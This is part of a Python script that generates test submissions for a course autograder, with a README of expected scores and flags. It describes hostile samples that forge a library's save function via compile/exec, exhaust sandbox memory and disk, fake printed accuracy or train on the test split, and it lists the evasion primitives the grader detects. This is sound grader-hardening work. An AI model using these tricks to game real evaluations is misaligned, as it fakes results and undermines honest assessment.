           "The missing-scale sample plus a cell replacing `safetensors.torch.save_file` by a "
           "function compiled (`compile`, `exec`) under the library's own file name, which "
           "rewrites the Q1(c) outputs with correct ones. The harness compares the function "
           "with the one it captured before the first cell, not its file name, and refuses "
           "to write; `compile`/`exec` and the replaced library attribute are flagged and "
           "the Part 1 questions held.",
           (attack(FORGED_SAFETENSORS),), ("q1c", *PART2, *PART3), held=tuple(PART1)),
    Sample("hostile-shared-limits", "template",
           "Template plus a cell starting four child processes of 2 GiB each (each under the "
           "per-process address-space limit), and one writing 2 GiB to the working folder: the "
           "sandbox's cgroup ends children past its memory together, the working folder's "
           "tmpfs fills at its size, and the record names both limits.",
           (InsertAfter("imports", "attack-disk", src(FILL_DISK)), attack(SHARED_MEMORY)),
           ALL),
    Sample("wrong-q2b-fake-accuracy", "solution",
           "Q2(b) loads DistilBERT but never trains it, and prints `train accuracy 0.9900, "
           "test accuracy 0.9900` for two epochs; Q2(d) is left undone. Q2(c) prints the "
           "untrained model's own predictions, which is what Q2(c) asks.",
           (FAKE_ACCURACY, SECOND_MODEL_UNDONE), ("q2b", "q2d")),
    Sample("wrong-q2b-trains-on-test", "solution",
           "Q2(b) fine-tunes on the test split for 8 epochs, so its printed test accuracy is "
           "near 100 %; Q2(d) is left undone. The hidden split shows the gap: the record flags "
           "it and the rubric (`test_fit_credit = 0.5`) halves the accuracy credit, leaving "
           "7.5 of Q2(b)'s 12 points (the printed series is honest, so `reported` keeps its 3).",
           (TRAINS_ON_TEST, MORE_EPOCHS, SECOND_MODEL_UNDONE), ("q2b", "q2d"),
           (("q2b", 7.5),)),
    Sample("wrong-q3-conventions", "no-part2",
           "Part 1 right, Part 2 undone, Part 3 answered with known conventions: Q3(c) "
           "`24 GB` (the GiB figure labelled GB: half of 4), Q3(d) without the biases "
           "(3 of 4), the Q3(a)(II) loss in log base 10 (the probability right: 3 of 4), "
           "Q3(e)(II) `72 MiB` (exactly right in another unit: full marks).",
           (GIB_LABELLED_GB, FFN_WITHOUT_BIASES, LOSS_IN_LOG10, ADAM_IN_MIB),
           (*PART2, "q3c", "q3d", "q3a2"), (("q3c", 2), ("q3d", 3), ("q3a2", 3))),
)


# ----------------------------------------------------------------------------------------
# Writing


def build_all() -> dict[str, NotebookNode]:
    """Every sample's notebook, by name, built in order (a base may be an earlier sample)."""
    built = {
        "solution": nbformat.read(PACK / "solution" / NOTEBOOK, as_version=4),
        "template": nbformat.read(PACK / "template" / NOTEBOOK, as_version=4),
    }
    built["no-part2"] = copy.deepcopy(built["solution"])
    PART2_UNDONE.apply(built["no-part2"])
    built["part1"] = copy.deepcopy(built["no-part2"])
    PART3_UNDONE.apply(built["part1"])
    for sample in SAMPLES:
        nb = copy.deepcopy(built[sample.base])
        for edit in sample.edits:
            edit.apply(nb)
        nbformat.validate(nb)
        built[sample.name] = nb
    return {sample.name: built[sample.name] for sample in SAMPLES}


README_HEAD = src("""
    # Sample submissions: STAT8021 Assignment 3, Parts 1, 2 and 3

    Notebooks for testing the grader on Part 1 (Q1, 30 points: Q1(a) 6, Q1(b) 6, Q1(c) 12,
    Q1(d) 6), Part 2 (Q2, 40 points: Q2(a) 12, Q2(b) 12, Q2(c) 8, Q2(d) 8) and Part 3
    (Q3, 30 points: written answers in tagged cells; Q3(a)(I) 2 and Q3(b) 4 are graded by a
    TA, the other 24 by `answer` checks). Each is
    the pack's solution or template notebook (`reference/stat8021-a3/`) with one defect,
    built by `make_samples.py`; do not edit the notebooks by hand, change the script and
    run it again:

        python submissions/stat8021-a3/make_samples.py

    **Run the hostile samples only inside the grader's sandbox.** Outside it they fork
    without limit, fill memory, reach the network and write files across the file system.

    "Score" is what a correct grader gives out of 100 before a TA grades the 6 manual
    points (so at most 94, and the record's status is `incomplete`). A wrong answer to
    one question costs exactly that question's points. The Part 1 samples (`part1` base:
    the solution with Parts 2 and 3 left as the template has them) test one Part 1 defect
    each and do not fine-tune anything, so they also lose Part 2's 40 points and Part 3's
    24 automatic points. The hostile samples
    built on the template implement nothing, so they score 0 whatever the attack does;
    those built on `wrong-q1c-missing-scale` must not earn the Q1(c) points back, nor make
    the grader fail: an attack that fakes numbers inside the kernel, or forges what the
    grader reads back from it, scores at most what that sample scores (18). A sample that
    uses a primitive no honest notebook needs (a namespace looked up by string, torch's
    modes switched off, a raw aten operator, `compile`/`exec`, frame access, a replaced
    library attribute: `grader/checks/evasion.py`) has every question judged from its
    kernel (here Part 1) held for a TA with the line named: those points count nothing
    before the TA, so such a sample scores 0 here.
    Part 2 needs the tiny models: `grader models seed --tiny` first.
    """)


README_NOTES = src("""
    ## What the probes should see

    With the hidden shapes in `reference/stat8021-a3/private/reference.py` as they are:

    - `wrong-q1a-transposed-heads` prints the right `q` shape *and* the right L2 norm
      (moving features between heads changes neither), so only the probes catch it; the
      sequence-of-1 case still matches.
    - `wrong-q1b-mask-after-softmax` matches on every unmasked case and on the masked case
      of sequence length 1 (its mask blocks nothing); every other masked case differs.
    - `wrong-q1c-missing-scale` matches only on the sequence-of-1 case (a softmax over one
      key is 1 whatever the scale).
    - `wrong-q1c-calls-standalone` matches on every case: the points go only through a
      static check of the class body.
    - `crash-pe-cell`: the probe finds no `PositionalEncoding`; the other three targets
      match everywhere.

    ## What a TA should see of issue 25's Part 1 attacks

    Before the grader read what the kernel runs and compared identities instead of names,
    each of these earned Q1(c)'s 12 points with no flag (Part 1: 30 of 30):

    - `hostile-namespace-lookup`: every Part 1 question "Held for a TA", naming
      `get_ipython().user_ns` and the `sys.modules[...]` line of the Q1(c) cell.
    - `hostile-aten-disable-torchfunction`: held, naming `torch.ops.aten` and
      `torch._C.DisableTorchFunction`; the Q1(c) probe's operators say
      `grader::recording-bypassed` on every case.
    - `hostile-cell-magic-body`: no primitive, so nothing held: the rule reads the class in
      the `%%time` body and fails Q1(c) at that body's line.
    - `hostile-forged-safetensors`: held, naming `exec(compile(...))` and the replaced
      `safetensors.torch.save_file`; every probe is refused ("the notebook replaced
      safetensors.torch.save_file"), the forged writer never writes.
    """)


def part2_attack_rows() -> list[str]:
    """The README rows of issue 25's Part 2 attacks, which their own generator builds
    (make_part2_attacks.py, a sibling script that imports this one): one table, and
    writing the README again never drops them."""
    if str(HERE) not in sys.path:
        sys.path.insert(0, str(HERE))
    import make_part2_attacks

    return make_part2_attacks.rows().splitlines()


def readme() -> str:
    """The README: why the samples exist, the table of expected scores, what to look for."""
    rows = [f"| `{s.name}.ipynb` | {s.base} | {s.what} | {s.score:g} |" for s in SAMPLES]
    rows += part2_attack_rows()
    table = (f"| Notebook | Built from | What it does | Score /{TOTAL} (before the TA) |\n"
             "|---|---|---|---|\n")
    return f"{README_HEAD}\n\n{table}" + "\n".join(rows) + f"\n\n{README_NOTES}\n"


def main() -> int:
    for name, nb in build_all().items():
        nbformat.write(nb, HERE / f"{name}.ipynb")
    (HERE / "README.md").write_text(readme())
    print(f"wrote {len(SAMPLES)} notebooks and README.md to {HERE.relative_to(HERE.parents[1])}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
